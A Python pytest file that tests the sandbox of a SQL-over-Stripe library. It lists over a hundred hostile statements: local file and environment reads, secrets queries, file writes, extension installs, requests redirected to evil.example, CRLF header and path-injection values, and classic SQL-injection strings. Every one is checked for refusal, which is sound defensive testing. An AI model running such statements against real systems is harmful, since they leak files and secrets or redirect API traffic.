"""SQL through a connection reaches Stripe and the connection's own rows, and nothing else of the machine."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest

import stripesql
from stripesql.simulator import Simulator

CANARY = "canary-4711"
KEY = "sk_test_" + "attacked123456"
frame = pa.table({"secret": [CANARY]})
"""A Python variable that a replacement scan would find."""

READING = [
    "SELECT * FROM read_csv('{file}')",
    "SELECT * FROM read_csv_auto('{file}')",
    "SELECT * FROM READ_CSV('{file}')",
    "SELECT * FROM \"read_csv\"('{file}')",
    "SELECT * FROM read_text('{file}')",
    "SELECT * FROM read_blob('{file}')",
    "SELECT * FROM read_json('{file}')",
    "SELECT * FROM read_json_auto('{file}')",
    "SELECT * FROM read_ndjson('{file}')",
    "SELECT * FROM read_parquet('{file}')",
    "SELECT * FROM parquet_scan('{file}')",
    "SELECT * FROM parquet_metadata('{file}')",
    "SELECT * FROM parquet_schema('{file}')",
    "SELECT * FROM sniff_csv('{file}')",
    "SELECT * FROM glob('{folder}/*')",
    "SELECT * FROM '{file}'",
    'SELECT * FROM "{file}"',
    "FROM '{file}'",
    "SELECT (SELECT content FROM read_text('{file}'))",
    "SELECT * FROM customers WHERE name IN (SELECT content FROM read_text('{file}'))",
    "SELECT * FROM customers, LATERAL read_text('{file}')",
    "WITH a AS (SELECT * FROM read_text('{file}')) SELECT * FROM a",
    "WITH a AS MATERIALIZED (FROM '{file}') FROM a",
    "SELECT * FROM (SELECT * FROM (FROM read_text('{file}')))",
    "SELECT * FROM customers UNION ALL BY NAME SELECT content FROM read_text('{file}')",
    "SELECT * FROM query('SELECT * FROM read_text(''{file}'')')",
    "SELECT * FROM query_table('{file}')",
    "SELECT * FROM query_table(['{file}'])",
    "PIVOT (FROM read_text('{file}')) ON filename USING first(content)",
    "UNPIVOT (FROM read_text('{file}')) ON content",
    "SUMMARIZE FROM read_text('{file}')",
    "DESCRIBE SELECT * FROM read_text('{file}')",
    "EXPLAIN SELECT * FROM read_text('{file}')",
    "EXPLAIN ANALYZE SELECT * FROM '{file}'",
    "SELECT read_text('{file}')",
    "SELECT /* ' */ * FROM /**/ read_text /**/ ('{file}')",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{file}'')'))",
    "SELECT * FROM sqlite_scan('{file}', 't')",
    "SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')",
    "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
    "SELECT * FROM 'https://example.com/x.parquet'",
    "SELECT * FROM 's3://bucket/x.parquet'",
    "SELECT getenv('STRIPESQL_CANARY')",
    "SELECT current_setting('temp_directory')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_variables()",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM duckdb_temporary_files()",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM duckdb_logs()",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT * FROM pragma_database_list()",
    "SELECT * FROM frame",
    "SELECT * FROM KEY",
    "SELECT * FROM python_map_function(frame)",
    "SELECT * FROM arrow_scan(1, 2, 3)",
    "SELECT * FROM pandas_scan(1)",
    "SELECT * FROM seq_scan('customers')",
    "SELECT getvariable('x')",
    "SELECT * FROM private",
    "SELECT * FROM memory.main.private",
    "SELECT * FROM temp.private",
    "SELECT * FROM main.private",
]
CHANGING = [
    "COPY (SELECT 1) TO '{new}'",
    "COPY customers TO '{new}' (FORMAT parquet)",
    "COPY customers FROM '{file}'",
    "EXPORT DATABASE '{new}'",
    "IMPORT DATABASE '{folder}'",
    "ATTACH '{new}'",
    "ATTACH '{new}' AS other (TYPE sqlite)",
    "DETACH memory",
    "USE memory",
    "INSTALL httpfs",
    "INSTALL httpfs FROM 'http://127.0.0.1:9'",
    "LOAD httpfs",
    "LOAD '{file}'",
    "FORCE INSTALL spatial",
    "UPDATE EXTENSIONS",
    "PRAGMA database_list",
    "PRAGMA enable_profiling='json'",
    "SET enable_external_access = true",
    "SET temp_directory = '{folder}'",
    "SET threads = 64",
    "SET memory_limit = '1TB'",
    "SET GLOBAL autoload_known_extensions = true",
    "SET VARIABLE x = 1",
    "SET base_url = 'http://127.0.0.1:9'",
    "SET local_files = true",
    "SET read_only = false",
    "SET proxy = 'http://127.0.0.1:9'",
    "SET ca_bundle = '{file}'",
    "RESET enable_external_access",
    "RESET read_only",
    "CREATE MACRO leak(x) AS TABLE SELECT * FROM read_text(x)",
    "CREATE TEMP MACRO leak() AS getenv('STRIPESQL_CANARY')",
    "CREATE FUNCTION leak() AS 1",
    "CREATE SECRET s (TYPE s3)",
    "CREATE PERSISTENT SECRET s (TYPE s3)",
    "CREATE TABLE stolen AS FROM read_text('{file}')",
    "CREATE TEMP TABLE stolen AS FROM read_text('{file}')",
    "CREATE TEMP VIEW stolen AS FROM read_text('{file}')",
    "CREATE SEQUENCE s",
    "CREATE TYPE t AS ENUM ('a')",
    "CREATE SCHEMA s",
    "ALTER TABLE customers RENAME TO c",
    "DROP TABLE customers",
    "DROP SCHEMA stripe CASCADE",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "CHECKPOINT",
    "VACUUM",
    "COMMENT ON TABLE customers IS 'x'",
    "CALL pragma_version()",
    "CALL duckdb_settings()",
    "SELECT * FROM sql_auto_complete('SEL')",
    "SELECT nextval('s')",
    "SELECT setseed(0.5)",
    "SELECT write_log('x')",
    "SELECT * FROM enable_logging()",
    "SELECT * FROM truncate_duckdb_logs()",
    "SELECT 1; COPY (SELECT 1) TO '{new}'",
    "SELECT 1 INTO customers",
    "WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x",
]
WRITING = [
    "INSERT INTO customers (name) SELECT content FROM read_text('{file}')",
    "INSERT INTO customers (name) SELECT secret FROM '{file}'",
    "INSERT INTO customers (name) VALUES ((SELECT content FROM read_text('{file}')))",
    "INSERT INTO customers (name) VALUES (getenv('STRIPESQL_CANARY'))",
    "INSERT INTO customers (name) SELECT secret FROM private",
    "INSERT INTO customers (name) VALUES ('a') RETURNING (SELECT content FROM read_text('{file}'))",
    "UPDATE customers SET name = (SELECT content FROM read_text('{file}')) WHERE id = 'cus_1'",
    "UPDATE customers SET name = t.content FROM read_text('{file}') AS t WHERE id = 'cus_1'",
    "UPDATE customers SET name = getenv('STRIPESQL_CANARY') WHERE id = 'cus_1'",
    "DELETE FROM customers USING read_text('{file}') AS t WHERE id = t.content",
    "DELETE FROM customers WHERE id = (SELECT content FROM read_text('{file}'))",
    "CALL customers.create(name => (SELECT content FROM read_text('{file}')))",
    "CALL customers.update(id, name => content) FROM customers, read_text('{file}')",
    "CALL customers.create(name => getenv('STRIPESQL_CANARY'))",
    "CALL read_text('{file}')",
    "CREATE TEMP TABLE a (x TEXT DEFAULT getenv('STRIPESQL_CANARY'))",
    "CREATE TEMP TABLE a (x TEXT CHECK (x <> getenv('STRIPESQL_CANARY')))",
    "CREATE TEMP TABLE a (x INT, y TEXT GENERATED ALWAYS AS (getenv('STRIPESQL_CANARY')))",
    "CREATE TEMP TABLE a AS SELECT secret FROM '{file}'",
    "CREATE TEMP TABLE a AS SELECT getenv('STRIPESQL_CANARY') AS x",
    "CREATE TEMP TABLE a AS SELECT * FROM private",
    "CREATE TEMP TABLE customers AS SELECT 1",
    "CREATE TEMP TABLE memory.main.a AS SELECT 1",
    "CREATE TEMP TABLE system.main.a AS SELECT 1",
    "CREATE TABLE a AS SELECT 1",
    "DROP TABLE private",
    "INSERT INTO private VALUES ('x')",
    "CALL files.create(file => '{file}', purpose => 'dispute_evidence')",
    "CALL files.download('file_1', path => '{new}')",
    "CALL stripe.request('GET', 'https://evil.example/v1/customers')",
    "CALL stripe.request('GET', 'http://127.0.0.1:9/v1/customers')",
    "CALL stripe.request('GET', '//evil.example/v1/customers')",
    "CALL stripe.request('GET', '/\\evil.example/v1')",
    "CALL stripe.request('GET', '@evil.example/v1/customers')",
    "CALL stripe.request('GET', ':9/v1/customers')",
    "CALL stripe.request('GET', '.evil.example/v1/customers')",
    "CALL stripe.request('GET', '/v1/../customers')",
    "CALL stripe.request('GET', '/v1/%2e%2e/customers')",
    "CALL stripe.request('GET', '/v1/customers' || chr(13) || chr(10) || 'X-Evil: 1')",
    "CALL stripe.request('GET', '/v1/customers HTTP/1.1')",
    "CALL stripe.request('GET', '/v1/customers#x')",
    "CALL stripe.request('PUT', '/v1/customers')",
    "CALL stripe.request('CONNECT', '/v1/customers')",
    "CALL stripe.request('GET', '/v1/customers', headers => {{'Host': 'evil.example'}})",
    "CALL stripe.request('GET', '/v1/customers', headers => {{'Authorization': 'Bearer x'}})",
    "CALL stripe.request('GET', '/v1/customers', headers => {{'X-Forwarded-Host': 'evil.example'}})",
    "CALL stripe.request('GET', '/v1/customers', headers => {{'Stripe-Account': 'a' || chr(13) || chr(10) || 'X-Evil: 1'}})",
]
ATTEMPTS = READING + CHANGING + WRITING


@pytest.fixture
def surroundings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A folder to work in with a file that holds the canary; the environment holds it too."""
    monkeypatch.setenv("STRIPESQL_CANARY", CANARY)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.csv").write_text(f"secret\n{CANARY}\n")
    return {"file": str(tmp_path / "secret.csv"), "folder": str(tmp_path), "new": str(tmp_path / "new.out")}


@pytest.fixture(scope="module")
def sim() -> Simulator:
    return Simulator(scale=0.02, now=1_790_000_000)


@pytest.fixture(scope="module")
def attacked(sim: Simulator) -> Iterator[tuple[stripesql.Connection, stripesql.Connection]]:
    """A connection to attack through, and another one that owns a frame."""
    with stripesql.connect(KEY, transport=sim.transport()) as one, stripesql.connect(KEY, transport=sim.transport()) as other:
        other.register("private", frame)
        assert other.execute("SELECT secret FROM private").fetchone() == (CANARY,)
        yield one, other


def _outcome(connection: stripesql.Connection, sql: str) -> str:
    """Return everything that a caller gets to see of a statement."""
    try:
        cursor = connection.execute(sql)
        return repr((cursor.description, cursor.fetchall() if cursor.description else None))
    except stripesql.Error as problem:
        return f"{type(problem).__name__}: {problem}"


@pytest.mark.parametrize("sql", ATTEMPTS)
def test_an_attempt_is_refused_and_leaves_no_trace(
    attacked: tuple[stripesql.Connection, stripesql.Connection], sim: Simulator, surroundings: dict[str, str], sql: str
) -> None:
    connection, other = attacked
    files = sorted(Path(surroundings["folder"]).iterdir())
    before = len(sim.log)
    text = sql.format(**surroundings)
    with pytest.raises(stripesql.Error) as refused:
        connection.execute(text).fetchall()
    assert CANARY not in str(refused.value)
    assert sorted(Path(surroundings["folder"]).iterdir()) == files
    assert all(each.method == "GET" for each in sim.log[before:])
    # It works on, and so does the other connection.
    assert connection.execute("SELECT 1").fetchone() == (1,)
    assert other.execute("SELECT count(*) FROM private").fetchone() == (1,)


def test_there_are_more_than_sixty_attempts() -> None:
    assert len(set(ATTEMPTS)) == len(ATTEMPTS) > 150


@pytest.mark.parametrize("sql", ["SHOW TABLES", "SELECT * FROM information_schema.tables", "SELECT * FROM information_schema.columns"])
def test_what_lists_names_does_not_list_those_of_another_connection(
    attacked: tuple[stripesql.Connection, stripesql.Connection], sql: str
) -> None:
    assert "'private'" not in _outcome(attacked[0], sql)


@pytest.mark.parametrize(
    "value",
    [
        "' OR 1=1 --",
        "'; DROP TABLE customers; --",
        '" OR ""="',
        "\\' OR 1=1",
        "$$ OR $$",
        "?",
        ":name",
        "%(x)s",
        "/*",
        "*/",
        "\x00",
        "\u2018 OR 1=1",
    ],
)
@pytest.mark.parametrize(
    ("sql", "wrap"),
    [
        ("SELECT id FROM customers WHERE name = ?", lambda value: [value]),
        ("SELECT id FROM customers WHERE name = :v", lambda value: {"v": value}),
        ("SELECT id FROM customers WHERE name = %(v)s", lambda value: {"v": value}),
        ("SELECT id FROM customers WHERE id IN (?, ?)", lambda value: [value, value]),
        ("SELECT id FROM customers WHERE email = ? AND created > '2020-01-01'", lambda value: [value]),
    ],
)
def test_a_parameter_is_a_value_and_never_sql(
    attacked: tuple[stripesql.Connection, stripesql.Connection], sql: str, wrap: object, value: str
) -> None:
    connection, _ = attacked
    assert callable(wrap)
    assert connection.execute(sql, wrap(value)).fetchall() == []
    assert connection.execute("SELECT ? AS v", [value]).fetchone() == (value,)


IDS = [
    "a/b",
    "..",
    "../charges",
    "a?limit=1",
    "a#b",
    "a\nb",
    "a\r\nX-Evil: 1",
    "a%2Fb",
    "a b",
    "search",
    "é",
    "/",
    ".",
    "a&b=c",
    "a;b",
    "\x00",
    "a" * 300,
]


@pytest.mark.parametrize("value", IDS, ids=range(len(IDS)))
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id FROM customers WHERE id = ?",
        "SELECT id FROM customer_tax_ids WHERE customer = ?",
        "SELECT id FROM charges WHERE customer = ?",
    ],
)
def test_an_id_cannot_change_the_path(
    attacked: tuple[stripesql.Connection, stripesql.Connection], sim: Simulator, sql: str, value: str
) -> None:
    connection, _ = attacked
    before = len(sim.log)
    assert connection.execute(sql, [value]).fetchall() == []
    for each in sim.log[before:]:
        assert each.path.count("/") in (2, 3, 4)
        assert each.path.startswith(("/v1/customers", "/v1/charges"))
        assert not any(character in each.path for character in "?#\n\r ")
